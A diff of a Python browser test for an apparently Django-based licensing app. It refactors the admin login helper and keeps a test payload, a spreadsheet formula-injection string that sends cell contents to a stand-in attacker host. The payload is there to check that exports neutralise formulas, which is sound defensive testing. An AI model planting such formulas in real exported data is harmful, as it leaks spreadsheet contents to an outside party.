@@ -6,7 +6,6 @@ the holder's records holds no formula a spreadsheet would run (Art. 9.2, 21.1(a)
 from __future__ import annotations
 
 import io
-import re
 from pathlib import Path
 
 import openpyxl
@@ -14,23 +13,19 @@ import pytest
 from django.core.management import call_command
 
 from licensing.models import IssuedDocument, IssuedDocumentKind, Licence, LicenceState, Party
+from tests.browser.demo import admin_log_in
 from tests.browser.test_admin_flow import decide
 from tests.documents.test_printing import decoded_qr_codes, pdf_text
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 
-DEMO_PASSWORD = "demo-password-2026"
 HOLDER = "Fjordtobakk AS"
 # Applicant-supplied text that a spreadsheet would run as a formula if it were exported as is.
 HOSTILE = '=HYPERLINK("https://attacker.invalid/?"&A1,"Click")'
 
 
 def log_in(page, live_server, username: str) -> None:
-    page.goto(f"{live_server.url}/admin/login/")
-    page.get_by_label("Username").fill(username)
-    page.get_by_label("Password").fill(DEMO_PASSWORD)
-    page.get_by_role("button", name="Log in").click()
-    page.wait_for_url(re.compile(r"/admin/$"))
+    admin_log_in(page, live_server, username)
 
 
 @pytest.fixture
